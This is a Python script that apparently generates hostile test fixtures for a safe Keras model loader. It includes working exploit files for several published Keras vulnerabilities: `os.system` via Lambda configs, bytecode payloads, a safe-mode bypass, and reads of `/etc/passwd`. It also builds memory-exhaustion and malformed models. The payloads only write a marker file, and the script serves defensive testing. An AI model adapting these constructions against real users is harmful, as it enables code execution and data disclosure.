"""Makes files that attack whoever opens them, for tests that nothing comes of it.

`cves/` holds the attacks that were published against Keras, one file each; their payload writes a file
named `hostile-file-was-here` into the current directory, nothing else. `models/` holds architectures
that ask for absurd memory or time, `numbers/` weights that are no numbers. index.json says of each
file what it attacks and which words the refusal must have.
"""

import io
import json
import os
import pathlib
import shutil
import subprocess
import sys
import zipfile

HERE = pathlib.Path(__file__).parents[1] / "fixtures/hostile"
MARK = "hostile-file-was-here"
INDEX = []


def add(path, attack, *mentions, weights=None):
    entry = {"file": path, "attack": attack, "mentions": list(mentions)}
    if weights:
        entry["weights"] = weights
    INDEX.append(entry)
    target = HERE / path
    target.parent.mkdir(parents=True, exist_ok=True)
    return target


# --- Published attacks ---------------------------------------------------------------------------


def payload(x):
    """What a Lambda layer of a hostile file does."""
    open("hostile-file-was-here", "w").write("fired")
    return x


def layer(class_name, name, inputs, module="keras.layers", **config):
    """A layer of a functional model as Keras 3 writes it; `inputs` are names or keyword arguments."""
    if isinstance(inputs, dict):
        nodes = [{"args": [], "kwargs": inputs}]
    else:
        nodes = [{"args": [tensor(of) for of in inputs], "kwargs": {}}] if inputs else []
    return {
        "module": module, "class_name": class_name, "config": {"name": name, **config},
        "registered_name": None, "name": name, "inbound_nodes": nodes,
    }


def tensor(name, shape=(None, 4), call=0, output=0):
    return {
        "class_name": "__keras_tensor__",
        "config": {
            "shape": list(shape), "dtype": "float32", "keras_history": [name, call, output]},
    }


def first(name="input", shape=(4,), dtype="float32"):
    return layer("InputLayer", name, [], batch_shape=[None, *shape], dtype=dtype, sparse=False)


def functional(layers, inputs=("input",), outputs=("output",), name="hostile"):
    return {
        "module": "keras.src.models.functional", "class_name": "Functional",
        "config": {
            "name": name, "trainable": True, "layers": layers,
            "input_layers": [[of, 0, 0] for of in inputs],
            "output_layers": [[of, 0, 0] for of in outputs]},
        "registered_name": "Functional", "build_config": {"input_shape": None},
    }


def keras_file(path, config):
    """A .keras archive around a configuration, with weights that nothing reads."""
    import h5py

    memory = io.BytesIO()
    with h5py.File(memory, "w") as weights:
        weights.create_group("layers")
        weights.create_group("_layer_checkpoint_dependencies")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("metadata.json", json.dumps(
            {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", memory.getvalue())


def function(module, name):
    return {
        "module": module, "class_name": "function", "config": name,
        "registered_name": "function"}


def published():
    import keras
    import tf_keras

    # Bytecode in a Lambda layer, which ran without a question before TensorFlow 2.13, and in .h5 files
    # whatever `safe_mode` said until Keras 3.11.3.
    model = tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Lambda(payload)])
    path = add("cves/CVE-2024-3660.h5", "code: a Lambda layer's bytecode", "Lambda", "Python code")
    lambda_of(tf_keras, path)
    age(path)
    path = add("cves/CVE-2025-9905.h5", "code: bytecode in .h5, safe mode ignored", "Lambda",
               "Python code")
    lambda_of(keras, path)

    path = add("cves/CVE-2025-1550.keras", "code: any function of any module by name", "Lambda",
               "Python code")
    keras_file(path, functional([
        first(),
        layer("Lambda", "output", {"inputs": f"echo fired > {MARK}"},
              function=function("os", "system"), arguments={}, output_shape=[4]),
    ]))
    path = add("cves/CVE-2025-1550-module.keras", "code: a module to import as a layer's home",
               "class_name")
    keras_file(path, functional([
        first(),
        {"module": "os", "class_name": "system", "config": f"echo fired > {MARK}",
         "registered_name": None, "name": "output", "inbound_nodes": []},
    ]))
    path = add("cves/CVE-2025-8747.keras", "code: a download by a function of Keras itself", "Lambda",
               "Python code")
    keras_file(path, functional([
        first(),
        layer("Lambda", "output", {"inputs": MARK},
              function=function("keras.utils", "get_file"),
              arguments={"origin": "file:///etc/hostname", "cache_dir": ".", "cache_subdir": "."},
              output_shape=[4]),
    ]))
    path = add("cves/CVE-2025-9906.keras", "code: safe mode turned off from within", "Lambda",
               "Python code")
    # What stands among a call's arguments is made after the calls before it.
    within = functional([
        first(),
        layer("Lambda", "output", ["input"], function=bytecode(), arguments={}),
    ], name="within")
    last = layer("Activation", "output", ["input"], activation="relu")
    last["inbound_nodes"][0]["kwargs"] = {"mask": within}
    keras_file(path, functional([
        first(),
        layer("Lambda", "unlock", {"inputs": "safe_mode_saving"},
              function=function("keras.src.backend.common.global_state", "set_global_attribute"),
              arguments={"value": False}, output_shape=[4]),
        last,
    ]))
    # A vocabulary that is a path: Keras reads the file, whose lines then lie in the saved model.
    path = add("cves/CVE-2025-12058.keras", "disclosure: a vocabulary that is a path", "vocabulary")
    keras_file(path, functional([
        first(dtype="string"),
        layer("StringLookup", "output", ["input"], vocabulary="/etc/hostname", num_oov_indices=1,
              mask_token=None, oov_token="[UNK]", output_mode="int", invert=False,
              max_tokens=None, encoding="utf-8", idf_weights=None, pad_to_max_tokens=False,
              sparse=False),
    ]))
    path = add("cves/CVE-2026-1669.weights.h5", "disclosure: weights that lie in another file",
               "another file", weights="cves/dense.json")
    external_weights(path)
    path = add("cves/CVE-2026-0897.weights.h5", "memory: a dataset that claims a terabyte",
               "tensor-bytes", weights="cves/dense-huge.json")
    huge_weights(path)
    (HERE / "cves/dense.json").write_text(json.dumps(
        functional([first(), dense("output", ["input"], units=3)])))
    (HERE / "cves/dense-huge.json").write_text(json.dumps(
        functional([first(shape=(1 << 20,)), dense("output", ["input"], units=1 << 18)])))


def bytecode():
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps(payload.__code__)).decode()
    return {
        "class_name": "__lambda__",
        "config": {"code": code, "defaults": None, "closure": None},
        "module": "builtins"}


def lambda_of(package, path):
    """A model whose Lambda layer holds the payload as bytecode, as the package itself writes it."""
    # Only functions named <lambda> are written as bytecode.
    hidden = eval("lambda x: (open('" + MARK + "', 'w').write('fired'), x)[1]")
    model = package.Sequential([package.Input((4,)), package.layers.Lambda(hidden)])
    model.save(path)
    (pathlib.Path.cwd() / MARK).unlink(missing_ok=True)  # building the model ran it


def age(path):
    """Takes out of a file what Keras 2.12 does not know."""
    import h5py

    with h5py.File(path, "r+") as file:
        config = json.loads(file.attrs["model_config"])
        for of in config["config"]["layers"]:
            of["config"].pop("optional", None)
        file.attrs["model_config"] = json.dumps(config)
        file.attrs["keras_version"] = "2.12.0"


def external_weights(path):
    import h5py

    with h5py.File(path, "w") as file:
        group = file.create_group("layers/dense/vars")
        group.create_dataset(
            "0", (4, 3), "float32", external=[("/etc/passwd", 0, 48)])
        group.create_dataset("1", data=[0.0, 0.0, 0.0], dtype="float32")


def huge_weights(path):
    import h5py

    with h5py.File(path, "w") as file:
        group = file.create_group("layers/dense/vars")
        group.create_dataset("0", (1 << 20, 1 << 18), "float32", chunks=(1 << 10, 1 << 10),
                             compression="gzip")
        group.create_dataset("1", data=[0.0, 0.0, 0.0], dtype="float32")


# --- Architectures that ask for absurd things ----------------------------------------------------

HUGE = 1 << 40


def dense(name, inputs, units=4, **config):
    return layer("Dense", name, inputs, units=units, activation="linear", use_bias=True, **config)


def chain(*layers, shape=(4,)):
    """A chain of layers given as class and configuration."""
    made = [first(shape=shape)]
    for number, (class_name, config) in enumerate(layers):
        name = "output" if number == len(layers) - 1 else f"layer{number}"
        made.append(layer(class_name, name, [made[-1]["name"]], **config))
    return functional(made)


def nested(depth, inner):
    """Models within models, each calling the next one twice: 2 to the `depth` layers."""
    model = functional([first(), inner("output")], name=f"level{depth}")
    for level in reversed(range(depth)):
        held = {
            **model, "name": f"level{level + 1}",
            "inbound_nodes": [
                {"args": [tensor("input")], "kwargs": {}},
                {"args": [tensor(f"level{level + 1}")], "kwargs": {}}]}
        outer = functional([first(), held], name=f"level{level}")
        outer["config"]["output_layers"] = [[f"level{level + 1}", 2, 0]]
        model = outer
    return model


def deep(depth):
    """Models within models, each once."""
    model = functional([first(), dense("output", ["input"])], name=f"level{depth}")
    for level in reversed(range(depth)):
        held = {**model, "name": "output",
                "inbound_nodes": [{"args": [tensor("input")], "kwargs": {}}]}
        model = functional([first(), held], name=f"level{level}")
    return model


def write(name, attack, model, *mentions):
    add(f"models/{name}.json", attack, *mentions).write_text(json.dumps(model))


def absurd():
    memory, time, damage = "memory", "time", "damage"
    write("dense", memory, chain(("Dense", {"units": HUGE})), "output")
    write("dense-squared", memory,
          chain(("Dense", {"units": 1 << 31}), ("Dense", {"units": 1 << 31})), "layer0")
    write("embedding", memory,
          chain(("Embedding", {"input_dim": HUGE, "output_dim": HUGE})), "output")
    write("convolution", memory, chain(
        ("Conv2D", {"filters": 1 << 34, "kernel_size": [3, 3]}), shape=(8, 8, 3)), "output")
    write("kernel", memory, chain(
        ("Conv2D", {"filters": 8, "kernel_size": [1 << 20, 1 << 20], "padding": "same"}),
        shape=(8, 8, 3)), "output")
    write("padding", memory, chain(
        ("ZeroPadding2D", {"padding": [[HUGE, HUGE], [HUGE, HUGE]]}), shape=(8, 8, 3)), "output")
    write("upsampling", memory, chain(
        ("UpSampling2D", {"size": [1 << 20, 1 << 20], "interpolation": "bilinear"}),
        shape=(8, 8, 3)), "output")
    write("repeat", memory, chain(("RepeatVector", {"n": HUGE})), "output")
    write("resizing", memory, chain(
        ("Resizing", {"height": 1 << 30, "width": 1 << 30}), shape=(8, 8, 3)), "output")
    write("category", memory, chain(
        ("CategoryEncoding", {"num_tokens": HUGE, "output_mode": "one_hot"}), shape=(1,)),
        "output")
    write("recurrent", memory, chain(("LSTM", {"units": 1 << 24}), shape=(5, 3)), "output")
    write("sequence", memory, chain(
        ("LSTM", {"units": 1 << 12, "return_sequences": True}), shape=(1 << 40, 1)), "tensor-bytes")
    write("normalization", memory, chain(
        ("BatchNormalization", {}), shape=(1 << 30, 1 << 10)), "tensor-bytes")
    write("input", memory, chain(("Activation", {"activation": "relu"}), shape=(HUGE, HUGE)), "too large")
    for name, inner in [
        ("dense", lambda name: dense(name, ["input"])),
        ("dropout", lambda name: layer("Dropout", name, ["input"], rate=0.5)),
    ]:
        write(f"models-of-models-{name}", time, nested(40, inner), "operations")
    write("deep", time, deep(200), "nested")
    write("negative-units", damage, chain(("Dense", {"units": -1})), "units")
    write("no-units", damage, chain(("Dense", {"units": 0})), "units")
    write("not-a-number", damage, chain(("Dropout", {"rate": float("nan")})), "rate")
    write("infinite-units", damage, chain(("Dense", {"units": float("inf")})), "units")
    write("zero-strides", damage, chain(
        ("Conv2D", {"filters": 4, "kernel_size": [3, 3], "strides": [0, 0]}), shape=(8, 8, 3)),
        "strides")
    write("zero-dilation", damage, chain(
        ("Conv2D", {"filters": 4, "kernel_size": [3, 3], "dilation_rate": [0, 0]}),
        shape=(8, 8, 3)), "dilation")
    write("huge-strides", damage, chain(
        ("MaxPooling2D", {"pool_size": [2, 2], "strides": [1 << 62, 1 << 62]}), shape=(8, 8, 3)),
        "strides")
    write("circle", damage, functional([
        first(), layer("Add", "a", ["input", "output"]), layer("Activation", "output", ["a"],
                                                              activation="relu")]), "cycle")
    missing = functional([first(), dense("output", ["nobody"])])
    write("missing-layer", damage, missing, "nobody")
    write("missing-output", damage, functional([
        first(), layer("Dense", "output", {"inputs": tensor("input", output=1 << 40)}, units=3)]),
        "input")
    same = functional([first(), dense("output", ["input"]), dense("output", ["input"])])
    write("same-name", damage, same, "output")
    write("operation-full", memory, functional([
        first(), layer("Full", "output", {"shape": [HUGE, HUGE], "fill_value": 1.0},
                       module="keras.src.ops.numpy")]), "too large")
    write("operation-tile", memory, functional([
        first(), layer("Tile", "output", ["input"], module="keras.src.ops.numpy",
                       repeats=[HUGE, HUGE])]), "output")
    write("operation-repeat", memory, functional([
        first(), layer("Repeat", "output", ["input"], module="keras.src.ops.numpy",
                       repeats=HUGE, axis=1)]), "output")
    write("operation-pad", memory, functional([
        first(), layer("Pad", "output", ["input"], module="keras.src.ops.numpy",
                       pad_width=[[0, 0], [HUGE, HUGE]], mode="constant")]), "output")
    # Texts of their own.
    add("models/brackets.json", time, "nested").write_text('{"a":' + "[" * 100_000)
    add("models/long-number.json", damage, "no layers").write_text(
        '{"class_name": "Sequential", "config": ' + "9" * 5_000 + "}")
    add("models/large-exponent.json", damage, "units").write_text(json.dumps(
        chain(("Dense", {"units": 77}))).replace("77", "1e400"))
    add("models/lone-surrogate.json", damage, "surrogate").write_text(
        '{"class_name": "Sequential", "config": {"name": "\\ud800", "layers": []}}')


# --- Weights that are no numbers -----------------------------------------------------------------


def numbers():
    import keras
    import numpy

    numpy.save(HERE / "input.npy", numpy.ones((2, 4), "float32"))
    for name, value in [("nan", numpy.nan), ("infinity", numpy.inf)]:
        model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense")])
        kernel = numpy.ones((4, 3), "float32")
        kernel[2, 1] = value
        model.set_weights([kernel, numpy.zeros(3, "float32")])
        (HERE / "numbers").mkdir(parents=True, exist_ok=True)
        model.save(HERE / f"numbers/{name}.keras")


# --- Proof that the attacks work where they were published ----------------------------------------

# Releases with the hole, by the file that goes through it; Keras 3 runs over TensorFlow 2.18.
VULNERABLE = {
    "CVE-2024-3660.h5": (["tensorflow-cpu==2.12.0"], "tensorflow"),
    "CVE-2025-9905.h5": (["keras==3.10.0", "tensorflow-cpu==2.18.0"], "keras"),
    "CVE-2025-1550.keras": (["keras==3.8.0", "tensorflow-cpu==2.18.0"], "keras"),
    "CVE-2025-8747.keras": (["keras==3.10.0", "tensorflow-cpu==2.18.0"], "keras"),
    "CVE-2025-9906.keras": (["keras==3.10.0", "tensorflow-cpu==2.18.0"], "keras"),
}
LOAD = """
import sys, os
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
from {module} import load_model
try:
    load_model(sys.argv[1]{safe})
except Exception as error:
    print(type(error).__name__, str(error)[:200].replace(chr(10), " "))
"""


def prove(folder):
    """Opens the files with releases of Keras that have the holes, and looks for the payload's mark."""
    folder = pathlib.Path(folder).resolve()
    for name, (packages, module) in VULNERABLE.items():
        environment = folder / "-".join(packages)
        if not environment.exists():
            # Bytecode is Python's own: the same version as this one.
            subprocess.run([sys.executable, "-m", "venv", environment], check=True)
            subprocess.run(
                [environment / "bin/python", "-m", "pip", "install", "--quiet", "--only-binary",
                 ":all:", *packages], check=True)
        work = folder / "work"
        shutil.rmtree(work, ignore_errors=True)
        work.mkdir()
        old = module == "tensorflow"
        code = LOAD.format(
            module="tensorflow.keras.models" if old else "keras.models",
            safe="" if old else ", safe_mode=True")
        clean = {k: v for k, v in os.environ.items() if not k.startswith("PYTHON")}
        answer = subprocess.run(
            [environment / "bin/python", "-c", code, HERE / "cves" / name], cwd=work, env=clean,
            capture_output=True, text=True)
        fired = (work / MARK).exists()
        print(f"{name}: {'fires' if fired else 'DOES NOT FIRE'} in {' '.join(packages)}  "
              f"{answer.stdout.strip()[:150]}")


def main():
    if sys.argv[1:2] == ["--prove"]:
        return prove(sys.argv[2])
    shutil.rmtree(HERE, ignore_errors=True)
    HERE.mkdir(parents=True)
    published()
    absurd()
    numbers()
    (HERE / "index.json").write_text(json.dumps(INDEX, indent=1) + "\n")


if __name__ == "__main__":
    main()
